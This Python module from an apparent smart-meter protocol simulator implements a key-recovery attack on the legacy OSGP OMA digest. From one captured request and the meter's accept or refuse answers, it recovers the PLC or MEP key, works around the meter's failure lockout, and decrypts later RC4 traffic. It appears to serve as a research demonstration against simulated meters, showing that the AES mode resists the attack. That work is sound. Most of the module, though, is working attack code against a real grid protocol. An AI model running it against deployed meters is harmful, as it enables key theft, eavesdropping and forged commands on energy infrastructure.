"""Key recovery against the OMA digest with a verification oracle (a demonstration).

Why this exists: legacy OSGP security (ET04.127 = 0) authenticates every PLC and MEP request with
the 8-byte OMA digest. Jovanovic and Neves ("Dumb Crypto in Smart Grids", FSE 2015) showed that
one valid message-tag pair and about 144 *verification* queries (accepted or refused) recover
the 96-bit PLC key. This module re-derives that kind of attack from the digest's structure (our
own construction and code) and runs it against a meter, using only what an attacker on the wire
has: one captured request and the meter's answers (anything versus 0x0B).

How it works. The digest's last pass is a chain of steps ``S[j] = S[j+1] + m + F_b(S[j]_old)``
with ``F_b`` a bijection chosen by one key bit ``b``. Each step can be run *backwards* when its
key bit is known, and the final state is the tag. Working from the end of the last pass:

* knowing the key bits of steps ``p+1 ..`` we know the state after step ``p``;
* adding ``delta`` to the message byte at ``p-8`` adds ``delta`` to every state byte before step
  ``p`` (each of the eight steps in between only adds its neighbour), so the modified tag is
  ``F_b(X_b + delta) + ...`` run forward: one prediction per value of the unknown bit ``b``;
* the attacker sends the modified message with the tag predicted for ``b = 1``: an answer other
  than 0x0B means ``b = 1``; a 0x0B is confirmed with the ``b = 0`` prediction (which also resets
  the meter's consecutive-failure lockout, so the attack never reaches its threshold).

One bit per accepted query, about 1.5 queries per key bit on average: ~144 queries for the
12-byte PLC OMA key, ~192 for a 16-byte MEP key. Forged requests carry a sequence number outside
the meter's window, so the meter answers 0x0C and executes nothing.

Against OSGP-AES-128-PSK (ET04.127 = 2) the same procedure gets 0x0B for both predictions at the
very first bit: the CCM tag cannot be run backwards, nothing is learned, and the attack stops
after a few queries and says so.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from osgp.security.digest import DIGEST_SIZE, digest, pass_length

if TYPE_CHECKING:
    from osgp.app.framing.mep import MepServer
    from osgp.app.meter import ServedMeter

#: ``oracle(span, tag) -> accepted``: send ``span ‖ tag`` (span = C12 request ‖ sequence number),
#: True unless the meter answered 0x0B.
Oracle = Callable[[bytes, bytes], bool]

#: Differences tried at the modified byte, in order. All are larger than the sequence window (8),
#: so a changed sequence byte never lands inside the meter's window.
DELTAS: tuple[int, ...] = (0x80, 0x55, 0xAA, 0x33, 0xCC, 0x99, 0x66, 0x11)
#: Differences at one bit for which both predictions may be refused before the attack gives up.
MAX_ANOMALIES = 3


def _rotl(x: int) -> int:
    return ((x << 1) | (x >> 7)) & 0xFF


def _rotr(x: int) -> int:
    return ((x >> 1) | (x << 7)) & 0xFF


def _f(bit: int, j: int, x: int) -> int:
    """The keyed byte function of one step (state index ``j``, key bit ``bit``)."""
    n = ~(x + j) & 0xFF
    return _rotl(n) if bit else (-_rotr(n)) & 0xFF


# _F[bit][j][x] and its inverse, so one step runs either way by table look-up.
_F: tuple[tuple[bytes, ...], ...] = tuple(
    tuple(bytes(_f(bit, j, x) for x in range(256)) for j in range(8)) for bit in (0, 1)
)


def _invert(table: bytes) -> bytes:
    inv = bytearray(256)
    for x, y in enumerate(table):
        inv[y] = x
    return bytes(inv)


_F_INV: tuple[tuple[bytes, ...], ...] = tuple(tuple(_invert(t) for t in row) for row in _F)


def _step_forward(s: list[int], p: int, m: int, bit: int) -> None:
    j = 7 - (p & 7)
    s[j] = (s[(j + 1) & 7] + m + _F[bit][j][s[j]]) & 0xFF


def _step_backward(s: list[int], p: int, m: int, bit: int) -> None:
    j = 7 - (p & 7)
    s[j] = _F_INV[bit][j][(s[j] - s[(j + 1) & 7] - m) & 0xFF]


@dataclass
class AttackResult:
    """What the attack achieved, with the figures a report needs."""

    recovered: bool
    key: bytes | None
    key_len: int
    queries: int
    refused: int  # queries the meter answered 0x0B
    bits_learned: int
    seconds: float
    reason: str = ""
    log: list[str] = field(default_factory=list)

    def as_dict(self) -> dict[str, object]:
        return {
            "recovered": self.recovered,
            "key": self.key.hex() if self.key is not None else None,
            "key_bytes": self.key_len,
            "queries": self.queries,
            "refused_queries": self.refused,
            "bits_learned": self.bits_learned,
            "seconds": round(self.seconds, 3),
            "reason": self.reason,
        }


def recover_key(span: bytes, tag: bytes, key_len: int, oracle: Oracle) -> AttackResult:
    """Recover a ``key_len``-byte OMA digest key (12 PLC, 16 MEP) from one valid ``(span, tag)``
    and a verification oracle. ``span`` is the covered request (C12 request ‖ sequence number),
    ``tag`` the 8 bytes that travelled after it."""
    if key_len not in (12, 16):
        raise ValueError(f"key length must be 12 (PLC) or 16 (MEP), got {key_len}")
    if len(tag) != DIGEST_SIZE:
        raise ValueError(f"tag must be {DIGEST_SIZE} bytes, got {len(tag)}")
    t0 = time.perf_counter()
    plen = pass_length(key_len)
    passes = max(1, -(-len(span) // plen))
    base = (passes - 1) * plen
    msg = bytes(span).ljust(passes * plen, b"\x00")
    last = msg[base:]
    # key_bits[(key byte index, bit index)] -> bit, filled from the end of the pass.
    key_bits: dict[tuple[int, int], int] = {}
    pos_bits: list[int] = [0] * plen
    state = list(tag)  # the state after step plen-1
    queries = refused = anomalies = 0
    log: list[str] = []

    def ask(forged: bytes, guess: bytes) -> bool:
        nonlocal queries, refused
        queries += 1
        ok = oracle(forged, guess)
        if not ok:
            refused += 1
        return ok

    def predict(after_p: list[int], p: int, bit: int, delta: int) -> bytes:
        s = list(after_p)
        _step_backward(s, p, last[p], bit)  # the state after step p-1 if the bit is `bit`
        s = [(x + delta) & 0xFF for x in s]
        for r in range(p, plen):
            _step_forward(s, r, last[r], bit if r == p else pos_bits[r])
        return bytes(s)

    for p in range(plen - 1, 7, -1):
        if len(key_bits) == 8 * key_len:
            break
        where = ((p >> 3) % key_len, p & 7)
        if where in key_bits:
            bit = key_bits[where]
        else:
            found: int | None = None
            anomalies = 0  # per bit: a lost answer costs a retry, never the attack
            for delta in DELTAS:
                pred1, pred0 = predict(state, p, 1, delta), predict(state, p, 0, delta)
                if pred1 == pred0:
                    continue  # this delta cannot tell the two bits apart: try another
                q = base + p - 8
                forged = bytearray(msg[: max(len(span), q + 1)])
                forged[q] = (forged[q] + delta) & 0xFF
                if ask(bytes(forged), pred1):
                    found = 1
                elif ask(bytes(forged), pred0):
                    found = 0
                if found is not None:
                    break
                anomalies += 1
                log.append(f"step {p}, delta 0x{delta:02X}: neither prediction was accepted")
                if anomalies >= MAX_ANOMALIES:
                    reason = (
                        "the tag does not behave like an OMA digest: no prediction was ever "
                        "accepted (AES-CCM cannot be run backwards)"
                        if not key_bits
                        else f"predictions stopped being accepted after {len(key_bits)} key bits"
                    )
                    return AttackResult(
                        False, None, key_len, queries, refused, len(key_bits),
                        time.perf_counter() - t0, reason, log,
                    )  # fmt: skip
            if found is None:
                return AttackResult(
                    False, None, key_len, queries, refused, len(key_bits),
                    time.perf_counter() - t0, f"no usable difference at step {p}", log,
                )  # fmt: skip
            bit = found
            key_bits[where] = bit
        pos_bits[p] = bit
        _step_backward(state, p, last[p], bit)
    elapsed = time.perf_counter() - t0
    if len(key_bits) < 8 * key_len:
        return AttackResult(
            False, None, key_len, queries, refused, len(key_bits), elapsed,
            f"only {len(key_bits)} of {8 * key_len} key bits learned", log,
        )  # fmt: skip
    key = bytes(sum(key_bits[(i, b)] << b for b in range(8)) for i in range(key_len))
    if digest(span, key) != bytes(tag):
        return AttackResult(
            False, None, key_len, queries, refused, len(key_bits), elapsed,
            "candidate key does not reproduce the captured tag", log,
        )  # fmt: skip
    return AttackResult(True, key, key_len, queries, refused, len(key_bits), elapsed, "", log)


# --- oracles over the meter's ports ---------------------------------------------------------------


class PlcOracle:
    """Send forged request APDUs to a PLC server (``handle_apdu``) and watch for 0x0B.

    ``now`` advances by ``step`` seconds per query (a PLC round trip), so the meter's lockout
    and the report see a plausible time line.
    """

    def __init__(
        self,
        handle_apdu: Callable[[bytes, float], bytes],
        *,
        code: int,
        now: float = 0.0,
        step: float = 1.0,
    ) -> None:
        self.handle_apdu = handle_apdu
        self.code = code
        self.now = now
        self.step = step
        self.queries = 0

    def __call__(self, span: bytes, tag: bytes) -> bool:
        self.queries += 1
        reply = self.handle_apdu(bytes([self.code]) + span + tag, self.now)
        self.now += self.step
        return reply[1:] != b"\x0b"


class MepOracle:
    """Send forged MEP request bodies (``handle_body`` or a byte transport) and watch for 0x0B."""

    def __init__(self, send_body: Callable[[bytes], bytes]) -> None:
        self.send_body = send_body
        self.queries = 0

    def __call__(self, span: bytes, tag: bytes) -> bool:
        self.queries += 1
        return self.send_body(span + tag) != b"\x0b"


# --- the demonstration against a served meter -----------------------------------------------------

#: The request a concentrator sends every day and an eavesdropper captures: a full read of BT23.
CAPTURED_REQUEST = bytes.fromhex("300017")


@dataclass
class Demonstration:
    """One run of the attack against a simulated meter, with the ground truth to compare."""

    port: str  # "plc" or "mep"
    mode: str  # "rc4" or "aes"
    true_key: bytes
    result: AttackResult
    meter_seconds: float  # meter time the queries took at one round trip per query
    #: A later RC4-encrypted request of the legitimate client, decrypted with the recovered key.
    decrypted: bytes | None = None

    @property
    def key_matches(self) -> bool:
        return self.result.key == self.true_key

    def as_dict(self) -> dict[str, object]:
        out = {"port": self.port, "mode": self.mode, **self.result.as_dict()}
        out["key_matches_meter"] = self.key_matches
        out["meter_seconds"] = round(self.meter_seconds, 1)
        out["decrypted_traffic"] = self.decrypted.hex(" ") if self.decrypted is not None else None
        return out


def capture_plc_request(meter: ServedMeter, *, now: float = 0.0) -> bytes:
    """What an eavesdropper records: one accepted request APDU from the concentrator, sent in
    clear (ET04.12 bit 3, PLC encryption off) in RC4 mode or AES-sealed in AES mode."""
    from osgp.app.framing.plc import PlcClient, PlcReply, PlcResend, SecurityMode

    aes = meter.security_mode() == SecurityMode.AES
    client = PlcClient(
        meter.keys.omak,
        mode=SecurityMode.AES if aes else SecurityMode.RC4,
        encrypt=False,
        aes_key=meter.keys.aes_psk,
        device_id=meter.device_id,
        sequence=meter.plc_sequence.current,
    )
    apdu = client.request(CAPTURED_REQUEST)
    event = client.receive(meter.plc.handle_apdu(apdu, now))
    if isinstance(event, PlcResend):
        apdu = event.apdu
        event = client.receive(meter.plc.handle_apdu(apdu, now))
    if not isinstance(event, PlcReply):
        raise RuntimeError(f"the legitimate request was not answered: {event}")
    return apdu


def attack_plc(meter: ServedMeter, captured_apdu: bytes, *, now: float = 1.0) -> AttackResult:
    """Run the attack on the meter's PLC port from one captured request APDU."""
    from osgp.app.framing.plc import PlcRequest

    req = PlcRequest.from_bytes(captured_apdu)
    span = req.body + req.sequence.to_bytes(4, "big")
    oracle = PlcOracle(meter.plc.handle_apdu, code=req.code, now=now)
    return recover_key(span, req.digest, 12, oracle)


def capture_mep_request(session: MepServer, key: bytes, *, aes: bool, now: float = 0.0) -> bytes:
    """One accepted MEP request body (the guide's examples travel "authenticated and
    unencrypted"), as a tap on the serial line records it."""
    from osgp.app.framing.mep import MepRequest
    from osgp.security.digest import digest as oma_digest

    seq = 0
    for _ in range(2):  # the first try learns the sequence number from the 0x0C reply
        seq = (seq + 1) & 0xFFFFFFFF
        if aes:
            from osgp.app.framing.plc import AesFraming

            part, _frame = AesFraming(key[:16], session.config.device_id).seal_request(
                session.config.peer_id, CAPTURED_REQUEST, seq
            )
            body = part
        else:
            span = CAPTURED_REQUEST + seq.to_bytes(4, "big")
            body = MepRequest(span, oma_digest(span, key[:16])).to_bytes()
        reply = session.handle_body(body, now)
        if reply == b"\x0b":
            raise RuntimeError("the legitimate MEP request was refused")
        if not aes and reply[:1] == b"\x0c":
            seq = int.from_bytes(reply[1:5], "big")
            continue
        if aes and len(reply) == 5 + 4 + DIGEST_SIZE:
            from osgp.app.framing.plc import AesFraming

            plain = AesFraming(key[:16], session.config.device_id).open_response(_frame, reply)
            if plain[:1] == b"\x0c":
                seq = int.from_bytes(plain[1:5], "big")
                continue
        return body
    raise RuntimeError("the legitimate MEP request kept getting 0x0C")


def attack_mep(session: MepServer, captured_body: bytes, *, now: float = 1.0) -> AttackResult:
    """Run the attack on a MEP server session from one captured request body."""
    span, tag = captured_body[:-DIGEST_SIZE], captured_body[-DIGEST_SIZE:]
    return recover_key(span, tag, 16, MepOracle(lambda body: session.handle_body(body, now)))


def simulated_meter(mode: str, *, seed: int | None = None, lockout: int = 30) -> ServedMeter:
    """A served meter with random keys, in ``mode`` ("rc4" or "aes") on PLC; its MEP port
    requires AES in AES mode."""
    import random

    from osgp.app.meter import ET04, ET04_SECURITY_MODE, ET55, MeterKeys
    from osgp.app.meter import ServedMeter as Meter

    rng = random.Random(seed)
    keys = MeterKeys(
        omak=rng.randbytes(12),
        mak=rng.randbytes(16),
        mbk=rng.randbytes(16),
        mk=b"unique-key",
        aes_psk=rng.randbytes(16),
    )
    meter = Meter(keys=keys, mep_require_aes=(mode == "aes"))
    store = meter.store
    if store.has(ET04) and store.size(ET04) > ET04_SECURITY_MODE:
        store.patch(ET04, ET04_SECURITY_MODE, bytes([2 if mode == "aes" else 0]))
    if store.has(ET55) and store.size(ET55) >= 22:
        store.patch(ET55, 20, bytes([lockout, 60]))
    return meter


def demonstrate(
    port: str, mode: str, *, seed: int | None = None, meter: ServedMeter | None = None
) -> Demonstration:
    """Capture one request from the legitimate client, then attack: the full story. ``meter``
    defaults to :func:`simulated_meter` in ``mode``."""
    if meter is None:
        meter = simulated_meter(mode, seed=seed)
    decrypted = None
    if port == "plc":
        captured = capture_plc_request(meter)
        result = attack_plc(meter, captured)
        true_key = meter.keys.omak
        if result.key is not None:
            decrypted = decrypt_plc_traffic(meter, result.key)
    elif port == "mep":
        session = meter.mep_session()
        key = meter.keys.mak or b""
        captured = capture_mep_request(session, key, aes=(mode == "aes"))
        result = attack_mep(session, captured)
        true_key = key[:16]
    else:
        raise ValueError(f"port must be plc or mep, got {port!r}")
    return Demonstration(port, mode, true_key, result, float(result.queries), decrypted)


#: What the concentrator sends after the attack, RC4-encrypted: a write of new tariff data.
LATER_REQUEST = bytes.fromhex("4f 0803 000000 0004") + b"TOU2"


def decrypt_plc_traffic(meter: ServedMeter, key: bytes) -> bytes:
    """The legitimate client sends an RC4-encrypted request; the attacker, who recorded it,
    decrypts it with the recovered OMA key (the RC4 key derives from it)."""
    from osgp.app.framing.plc import PlcClient, PlcRequest
    from osgp.security.rc4 import plc_open

    client = PlcClient(meter.keys.omak, encrypt=True, sequence=meter.plc_sequence.current)
    apdu = client.request(LATER_REQUEST)
    req = PlcRequest.from_bytes(apdu)
    return plc_open(req.body + req.sequence.to_bytes(4, "big") + req.digest, key)


__all__ = [
    "CAPTURED_REQUEST",
    "AttackResult",
    "Demonstration",
    "MepOracle",
    "Oracle",
    "PlcOracle",
    "attack_mep",
    "attack_plc",
    "capture_mep_request",
    "capture_plc_request",
    "demonstrate",
    "recover_key",
    "simulated_meter",
]
